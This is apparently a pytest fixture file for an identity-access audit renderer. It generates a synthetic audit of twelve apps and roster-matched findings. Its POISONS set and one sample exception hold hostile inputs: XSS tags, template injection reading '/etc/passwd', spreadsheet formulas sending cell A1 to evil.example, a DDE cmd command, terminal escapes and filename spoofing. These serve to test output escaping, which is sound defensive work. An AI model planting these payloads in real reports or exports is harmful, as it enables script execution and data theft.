"""A realistic audit to render: twelve apps, one roster, some five hundred findings, and a few things gone wrong."""

from __future__ import annotations

import hashlib
import random
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

import pandas as pd
import pytest

from scimaudit import tables
from scimaudit.result import (
    AppLine,
    ApprovalLine,
    Audit,
    Equation,
    ExceptionLine,
    Gate,
    KindLine,
    Meta,
    PolicyWord,
    SourceLine,
    WitnessLine,
)

NOW = datetime(2026, 11, 20, 17, 0, tzinfo=UTC)

KINDS = (
    ("leaver-active", "Leaver's account is active", "orphan", "high", 60),
    ("unmatched", "Account has no person", "orphan", "high", 50),
    ("ambiguous", "Account has several candidates", "orphan", "medium", 20),
    ("nhi-unowned", "Service account has no owner", "orphan", "medium", 30),
    ("dormant", "Account is dormant", "orphan", "medium", 90),
    ("disabled-residual", "Inactive account holds entitlements", "orphan", "medium", 40),
    ("attribute-drift", "Attribute differs from the roster", "drift", "low", 110),
    ("status-drift", "Status differs from the roster", "drift", "high", 25),
    ("excess", "Entitlement that no policy allows", "excess", "medium", 45),
    ("sod", "Conflicting entitlements", "excess", "high", 10),
    ("privileged-unapproved", "Privileged without approval", "excess", "high", 15),
    ("walk-incomplete", "Listing was cut short", "data", "high", 1),
    ("scope-partial", "Listing hides accounts", "data", "high", 2),
    ("not-audited", "App has no source", "data", "high", 1),
)

REGISTERS = {
    "slack": {"sign_in": "saml", "create": "scim", "update": "scim", "disable": "scim", "entitlement_removal": "scim"},
    "jira": {"sign_in": "saml", "create": "jit", "disable": "none", "entitlement_removal": "none"},
}

EXCEPTIONS = (
    ExceptionLine(
        "EX-7", "dormant", "aws", "svc-archive", "the yearly archive runs in January", "keys are in the vault",
        "ana.ames@northwind.example", "aws-owner@northwind.example", "2026-10-01", "2026-12-20", "SEC-7", "valid", "", 2,
    ),
    ExceptionLine(
        "EX-8", "excess", "sap", "bo.berg, Admins", "=HYPERLINK(\"https://evil.example\")", "", "bo.berg@northwind.example",
        "bo.berg@northwind.example", "2026-10-01", "2026-12-20", "", "invalid", "approved what they asked for", 1,
    ),
)  # fmt: skip

APPS = (
    ("slack", "Slack", "complete", "all", "findings"),
    ("github", "GitHub", "complete", "partial", "not proven"),
    ("salesforce", "Salesforce", "complete", "all", "findings"),
    ("jira", "Jira", "complete", "all", "findings"),
    ("zoom", "Zoom", "complete", "all", "clean"),
    ("crm", "Customer CRM", "incomplete", "all", "not proven"),
    ("aws", "AWS IAM Identity Center", "complete", "all", "findings"),
    ("sap", "SAP S/4HANA", "complete", "all", "findings"),
    ("servicenow", "ServiceNow", "unprovable", "unknown", "not proven"),
    ("figma", "Figma", "complete", "unknown", "not proven"),
    ("vpn", "VPN gateway", "failed", "unknown", "failed"),
    ("fax", "Fax server", "failed", "unknown", "not audited"),
)

REASONS = {
    "crm": "listing was cut short: page 41 repeated page 40 after 4,000 of 6,214 rows",
    "github": "scope partial: accounts outside SAML are not listed",
    "servicenow": "nothing proves the walk: no total, no stable order; scope unknown",
    "figma": "scope unknown: no canary, no seat count",
    "vpn": "the server refused the credentials (401)",
    "fax": "vendor has no export",
}

GIVEN = [
    "Ada",
    "Grace",
    "Katherine",
    "Alan",
    "Barbara",
    "Edsger",
    "Radia",
    "Donald",
    "Frances",
    "Ken",
    "Margaret",
    "Tim",
    "Hedy",
    "Linus",
    "Anita",
    "Dennis",
]
FAMILY = [
    "Lovelace",
    "Hopper",
    "Johnson",
    "Turing",
    "Liskov",
    "Dijkstra",
    "Perlman",
    "Knuth",
    "Allen",
    "Thompson",
    "Hamilton",
    "Berners-Lee",
    "Lamarr",
]
ENTITLEMENTS = ("Workspace Admins", "Billing", "AP-Vendor-Create", "AP-Payment-Release", "prod-deploy", "Domain Users")


@dataclass
class Story:
    """What the sample tells; change a field to tell another."""

    size: int = 500
    seed: int = 7
    people: int = 420
    gates: tuple[Gate, ...] = ()
    organisation: str = "Northwind Traders Ltd"
    apps: tuple[tuple[str, str, str, str, str], ...] = APPS
    changes: dict[str, list[str | None]] = field(default_factory=dict)

    def findings(self) -> pd.DataFrame:
        chance = random.Random(self.seed)
        weights = [kind[4] for kind in KINDS[:-3]]
        listed = [app[0] for app in self.apps if app[4] not in ("failed", "not audited", "clean")]
        order = {name: place for place, name in enumerate(reversed(tables.SEVERITIES))}
        rows = []
        for number in range(self.size):
            kind, _, family, severity, _ = (
                chance.choices(KINDS[:-3], weights)[0] if number >= 4 else KINDS[-(1 + number % 3)]
            )
            app = chance.choice(listed or [None])
            if kind == "not-audited":
                app = "fax"
            if kind == "walk-incomplete":
                app = "crm"
            person = chance.randrange(self.people)
            name = f"{GIVEN[person % len(GIVEN)]} {FAMILY[person // 3 % len(FAMILY)]}"
            login = f"{name.lower().replace(' ', '.')}@northwind.example"
            nobody = kind in ("unmatched", "ambiguous", "nhi-unowned") or family == "data"
            data = family == "data"
            if severity == "high" and chance.random() < 0.12:
                severity = "critical"
            if severity == "low" and chance.random() < 0.1:
                severity = "info"
            entitlement = chance.choice(ENTITLEMENTS) if family == "excess" or kind == "disabled-residual" else None
            rows.append(
                {
                    "finding_id": hashlib.sha256(f"{number} {kind} {app}".encode()).hexdigest()[:16],
                    "kind": kind,
                    "family": family,
                    "severity": severity,
                    "severity_why": f"base {severity}" + ("; one up: app is in scope of sox" if app == "sap" else ""),
                    "app": app,
                    "account_id": None if data else f"U{number:06d}",
                    "user_name": None if data else (f"svc-{number}" if kind == "nhi-unowned" else login),
                    "person_id": None if nobody else f"{10000 + person}",
                    "person_name": None if nobody else name,
                    "attribute": "groups" if entitlement else ("department" if kind == "attribute-drift" else None),
                    "value": entitlement,
                    "expected": _expected(kind, chance),
                    "actual": _actual(kind, chance),
                    "evidence": None if data else f"apps.{app}.listings[0] body {number // 100} row {number % 100}",
                    "first_seen": NOW - timedelta(days=chance.choice((0, 0, 7, 30, 91))),
                    "disposition": chance.choices(
                        ("open", "excepted", "snoozed", "remediation-claimed"), (90, 5, 3, 2)
                    )[0],
                    "exception_id": None,
                    "risk": "money leaves the company" if entitlement == ENTITLEMENTS[0] else None,
                    "lead": number < 4 or chance.random() > 0.1,
                    "covered_by": None,
                    "gated": False,
                    "owner": f"{app}-owner@northwind.example" if app else None,
                    "action": _action(kind),
                    "controls": ["ISO 27001 A.5.18", "SOC 2 CC6.2", "NIST AC-2"][: chance.randrange(1, 4)],
                }
            )
        rows.sort(key=lambda row: (order[row["severity"]], row["finding_id"]))
        leads = [row for row in rows if row["lead"]]
        for row in rows:
            if not row["lead"]:
                row["covered_by"] = chance.choice(leads)["finding_id"]
            if row["disposition"] == "excepted":
                row["exception_id"] = "EX-2026-014"
        columns = {name: [row[name] for row in rows] for name in tables.FINDINGS.names}
        return tables.frame(tables.build(tables.FINDINGS, columns | self.changes, rows=len(rows)))

    def checks(self) -> pd.DataFrame:
        rows = []
        for kind, _, family, _, _ in KINDS:
            for app, _, walk, scope, said in self.apps:
                if family == "data" or said in ("failed", "not audited"):
                    continue
                population = 300 + len(app) * 11 + len(kind)
                failed = 0 if said == "clean" else len(kind) % 7
                unknown = (
                    population - failed if walk != "complete" and family == "excess" else 12 if scope != "all" else 0
                )
                reason = f"walk-unproven {unknown}" if unknown > 12 else "scope-unproven 12" if unknown else None
                rows.append((kind, app, population, failed, population - failed - unknown, unknown, reason))
        columns = dict(zip(tables.CHECKS.names, map(list, zip(*rows, strict=True)), strict=True)) if rows else {}
        return tables.frame(tables.build(tables.CHECKS, columns, rows=len(rows)))

    def audit(self) -> Audit:
        findings = self.findings()
        lead = findings[findings["lead"].astype(bool)]
        counts = {
            app: Counter(severities)
            for app, severities in lead.groupby("app", observed=True)["severity"].apply(list).items()
        }
        apps = tuple(_app(*app, counts.get(app[0], {})) for app in self.apps)
        listings = tuple(_listing(app) for app in apps if app.verdict != "not audited")
        roster = _source("rosters.hr", "people", None, "csv", self.people, as_of=NOW - timedelta(hours=9))
        equations = [Equation("rows of hr", "rosters.hr", self.people, {"parsed": self.people, "rejected": 0})]
        for app in apps:
            parts = {"matched": app.matched, "unmatched": app.unmatched, "ambiguous": app.ambiguous}
            equations.append(Equation("accounts", app.app, app.accounts, parts))
        kinds = tuple(
            KindLine(
                kind,
                title,
                family,
                severity,
                f"{title}, for every account that is not a registered non-human.\nThe roster decides.",
                "Nobody revokes what nobody knows of; a former owner may sign in.\n\nAuditors ask for this first.",
                "An account of unknown activity. Nothing passes while the roster is in doubt.",
                "Disable the account, remove its entitlements, and record who did so.",
                ("ISO 27001 A.5.18", "SOC 2 CC6.2"),
                {"days": "90"} if kind == "dormant" else {},
            )
            for kind, title, family, severity, _ in KINDS
        )
        meta = Meta(
            version="0.1.0",
            organisation=self.organisation,
            audit_id="2026-11-20T170000Z-7f3a",
            snapshot_id="2026-11-20T163012Z",
            as_of=NOW,
            time_zone="Europe/Berlin",
            collected_from=NOW - timedelta(minutes=30),
            collected_to=NOW - timedelta(minutes=4),
            people=self.people,
            people_active=int(self.people * 0.9),
            fail_on="high",
            exit_code=4 if self.gates else 3,
            exit_reasons=(
                *(("a safety gate tripped: roster-shrunk",) if self.gates else ()),
                "the listing of crm was not proven complete",
                f"{int(lead['severity'].isin(['high', 'critical']).sum())} findings at or above high",
            ),
            defaults={
                "dormancy": "90 days",
                "leaver SLA": "24 hours",
                "roster is stale after": "7 days",
                "roster shrink gate": "20 %, 5 rows",
                "app shrink gate": "20 %",
                "exception life": "at most 90 days",
            },
        )
        return Audit(
            meta, apps, (roster, *listings), tuple(equations), self.gates, kinds, EXCEPTIONS, findings, self.checks(),
            approvals=_approvals(self.organisation),
        )  # fmt: skip


def _approvals(said: str) -> tuple[ApprovalLine, ...]:
    """Rights and decisions; ``said`` is a text that a stranger chose."""
    allowed = (PolicyWord("sap-admins", "allows", said, "sap-owner@northwind.example"),)
    right = {"attribute": "groups", "privileged": True, "needed": True, "active": True}
    return (
        ApprovalLine("right", "crm", said, "nobody", "nobody approved it", account="adm-1", **right),
        ApprovalLine(
            "right", "sap", "Admins", "does not count", "it ran out on 2026-10-31", account_id="U9", account="u9",
            person_id="10009", person=said, by="sap-owner@northwind.example", on="2026-05-01", until="2026-10-31",
            reason=said, where="policy/approvals.csv", rules=allowed, **right,
        ),
        ApprovalLine("power", "github", "which rights give power", "nobody", "nobody has said which of 9 rights give power"),
        ApprovalLine("exception", "aws", "EX-7: dormant", "counts", by="aws-owner@northwind.example", kind="dormant", id="EX-7"),
        ApprovalLine("scope", "figma", said, "counts", by=said, until="2027-01-31", reason=said),
    )  # fmt: skip


def _app(name: str, title: str, walk: str, scope: str, verdict: str, counts: Counter[str]) -> AppLine:
    accounts = 0 if verdict in ("failed", "not audited") else 380 + 37 * len(name)
    unmatched, ambiguous = (accounts // 12, accounts // 60) if verdict != "clean" else (0, 0)
    inactive, unknown = accounts // 9, 7 if scope == "unknown" and accounts else 0
    return AppLine(
        app=name,
        title=title,
        owner=f"{name}-owner@northwind.example",
        regulated=("sox",) if name == "sap" else (),
        register=REGISTERS.get(name, {}),
        accounts=accounts,
        active=accounts - inactive - unknown,
        inactive=inactive,
        activity_unknown=unknown,
        matched=accounts - unmatched - ambiguous,
        unmatched=unmatched,
        ambiguous=ambiguous,
        grants=accounts * 6,
        findings=dict(counts),
        set_aside={"excepted": 2} if name == "aws" else {},
        walk=walk,
        walk_reason=REASONS.get(name, "") if walk != "complete" else "",
        scope=scope,
        scope_reason=REASONS.get(name, "") if scope != "all" else "",
        as_of=None if verdict in ("failed", "not audited") else NOW - timedelta(days=9 if name == "figma" else 0),
        verdict=verdict,
        verdict_reason=REASONS.get(name, ""),
    )


def _listing(app: AppLine) -> SourceLine:
    return _source(
        f"apps.{app.app}.listings[0]",
        "accounts",
        app.app,
        "scim",
        app.accounts,
        as_of=app.as_of,
        walk=app.walk,
        walk_reason=app.walk_reason,
        scope=app.scope,
        scope_reason=app.scope_reason,
        witnesses=(
            WitnessLine("W1 honest total", "passed" if app.walk == "complete" else "failed", "totalResults matches"),
            WitnessLine("W2 contiguity", "passed", "42 page seams overlap by one row"),
            WitnessLine("W3 end proof", "passed" if app.walk == "complete" else "failed", "the tail probe was empty"),
            WitnessLine("W7 canaries", "not-available", "none named"),
        ),
        reused=app.app == "figma",
        collected_at=(app.as_of or NOW) - timedelta(minutes=12),
        entitlements="complete" if app.walk == "complete" else "unprovable",
        error=app.verdict_reason if app.verdict == "failed" else "",
    )


def _source(name: str, fills: str, app: str | None, source: str, rows: int, **changes: object) -> SourceLine:
    values: dict[str, object] = {
        "collected_at": NOW - timedelta(minutes=12),
        "as_of": NOW,
        "reused": False,
        "received": rows,
        "parsed": rows,
        "rejected": 0,
        "acknowledged": 0,
        "walk": "complete",
        "walk_reason": "",
        "scope": "all",
        "scope_reason": "",
        "entitlements": "complete" if fills == "accounts" else "unprovable",
        "entitlements_reason": "",
        "witnesses": (),
        "notes": ("emails came as strings, not objects",) if app == "jira" else (),
        "requests": rows // 100 + 4,
        "bytes": rows * 1300,
        "seconds": rows / 900,
        "waited": 0.0,
        "error": "",
    }
    return SourceLine(name=name, fills=fills, app=app, source=source, **(values | changes))  # type: ignore[arg-type]


def _expected(kind: str, chance: random.Random) -> str:
    return {
        "leaver-active": f"no active account: terminated {chance.randrange(2, 400)} days ago",
        "attribute-drift": "Finance",
        "status-drift": "active in the roster",
        "dormant": "a sign-in within 90 days",
        "sod": "not both AP-Vendor-Create and AP-Payment-Release",
    }.get(kind, "a person in the system of record")


def _actual(kind: str, chance: random.Random) -> str:
    return {
        "leaver-active": "active",
        "attribute-drift": chance.choice(("Financial Services", "Accounting", "(empty)")),
        "status-drift": "inactive",
        "dormant": f"last sign-in {chance.randrange(91, 700)} days ago",
        "sod": "holds both",
    }.get(kind, "no candidate by user name, mail address or employee number")


def _action(kind: str) -> str:
    return {
        "leaver-active": "Disable the account and remove its entitlements.",
        "attribute-drift": "Correct the attribute in the app, or its mapping.",
    }.get(kind, "Ask the owner of the app whose account this is, then link or disable it.")


@pytest.fixture
def story() -> type[Story]:
    return Story


@pytest.fixture(scope="session")
def audit() -> Audit:
    """The sample as it is."""
    return Story().audit()


def chosen(text: str) -> Audit:
    """An audit in which a stranger chose every text that a stranger can choose."""
    story = Story(size=8, organisation=text)
    names = ("user_name", "person_name", "value", "expected", "actual", "evidence", "account_id", "owner")
    story.changes = {name: [text] * story.size for name in names}
    return story.audit()


@pytest.fixture
def hostile() -> Callable[[str], Audit]:
    return chosen


POISONS = {
    "script": "<script>window.pwned=1</script>",
    "end-of-script": "</script><script>window.pwned=1</script><!--<script>",
    "image": "<img src=x onerror=window.pwned=1>",
    "attribute": '" onmouseover="window.pwned=1" x=\'',
    "style": "</style><style>*{display:none}</style>",
    "title": "</title></svg></template><script>window.pwned=1</script>",
    "address": "javascript:window.pwned=1",
    "template": "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"ok")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "break-out": 'a";=1+1;"',
    "apostrophe": "'=1+1",
    "link": "https://evil.example/",
    "number": "00123",
    "excel-escape": "_x0041__x000D_",
    "override": "user\u202egpj.exe",
    "invisible": "a\u200bd\u2028m\u2029in\ufeff",
    "nul": "nul\0nul",
    "terminal": "\x1b]8;;https://evil.example\x07x\x1b[2J0 findings",
    "lines": "one\r\ntwo\nthree",
    "mark": "⟦U+0041⟧",
    "long": "A<b>=" * 20_000,
}


@pytest.fixture(params=POISONS.values(), ids=POISONS.keys())
def poison(request: pytest.FixtureRequest) -> str:
    """A text that some program that shows it would act on."""
    return str(request.param)


@pytest.fixture(scope="session")
def poisons() -> list[str]:
    return list(POISONS.values())
